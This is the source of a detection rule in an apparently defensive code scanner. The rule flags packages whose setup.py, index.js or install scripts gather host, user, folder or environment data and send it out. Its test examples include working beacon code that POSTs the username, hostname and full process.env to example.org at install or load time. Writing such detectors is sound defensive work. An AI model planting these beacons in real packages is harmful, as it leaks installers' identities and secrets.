"""A package that tells its author where it was installed."""

import re
from collections.abc import Iterator

from hunkwise.code.model import Unit
from hunkwise.signals.interface import Example, Sighting, Signal
from hunkwise.signals.malice.whole_file import View, asked, in_files
from hunkwise.signals.tables.languages import CODE

_FIRST = re.compile(
    r"(?:^|/)(?:setup\.py|__init__\.py|(?:index|main|app|(?:pre|post)?_?-?install\w*|setup|preinstall|postinstall|build"
    r"|extract|script|test|core|lib|util\w*)\.(?:[cm]?js|ts|py|sh))$"
)


def _look(unit: Unit, view: View) -> Iterator[Sighting]:
    base = unit.path.rsplit("/", 1)[-1]
    if not _FIRST.search(unit.path) or len(view.numbers) > 400:
        return
    sends = [call for call in view.calls("send") if call.name not in ("gethostbyname", "lookup", "resolve")]
    told = asked(view)
    hosts = told & {"host", "user", "address", "environment"}
    if not sends or not hosts or len(told) < 2:
        return
    installs = base in ("setup.py", "preinstall.js", "postinstall.js", "install.js") or "cmdclass" in view.text
    short = len(view.numbers) <= 150
    strength = 0.9 if installs else 0.7 if short and len(told) >= 3 else 0.6 if short and base in ("__init__.py", "index.js") else 0.3
    place = sends[-1]
    yield Sighting((place.line,), {"sink": place.path[:60], "source": ", ".join(sorted(told))}, strength=strength)


_see = in_files(
    _look, "hostname", "getuser", "userinfo", "uname", "environ", "process.env", "whoami", "node(", "getlogin", "networkinterfaces"
)


SIGNAL = Signal(
    id="install-beacon",
    title="A package that reports where it runs",
    kind="payload",
    category="malicious-code",
    severity="high",
    languages=CODE | {"manifest"},
    promise=(
        "Tells of a package's first file (`setup.py`, `__init__.py`, `index.js`, an install script) that asks for two "
        "or more of host, user, address, folder or environment and sends them."
    ),
    why="Who installs a library never asked for that: it is how attackers learn whom they reached.",
    quiet="Long files, files that belong to a client or an agent, one question alone.",
    remedy="Take it out, or ask the user first.",
    cause="`{source}` of the machine are sent by `{sink}` as soon as the package is installed or loaded.",
    since="0.2",
    maturity="stable",
    cwe="CWE-506",
    tactic="T1082",
    everywhere=True,
    see=_see,
    fires=(
        Example(
            "python",
            "import getpass\n"
            "import socket\n"
            "from setuptools import setup\n"
            "from setuptools.command.install import install\n"
            "import requests\n"
            "\n"
            "\n"
            "class Custom(install):\n"
            "    def run(self):\n"
            "        install.run(self)\n"
            '        requests.post("https://example.org/a", json={"user": getpass.getuser(), "host": socket.gethostname()})\n'
            "\n"
            "\n"
            'setup(name="a", cmdclass={"install": Custom})\n',
            path="setup.py",
            line=11,
        ),
        Example(
            "javascript",
            'const os = require("os");\n'
            'const https = require("https");\n'
            "const data = JSON.stringify({ h: os.hostname(), u: os.userInfo().username, d: __dirname, e: process.env });\n"
            'const req = https.request({ hostname: "example.org", method: "POST" });\n'
            "req.write(data);\n"
            "req.end();\n",
            path="index.js",
            line=5,
        ),
    ),
    stays_quiet=(
        Example(
            "python",
            'import socket\nfrom setuptools import setup\n\nsetup(name="a", version="1.0", description=socket.gethostname())\n',
            path="setup.py",
        ),
        Example(
            "python",
            "import getpass\n"
            "import socket\n"
            "import requests\n"
            "\n"
            "def login(password):\n"
            '    return requests.post("https://example.org/login", json={"user": getpass.getuser(), "host": socket.gethostname()})\n',
            path="client/session.py",
        ),
    ),
)
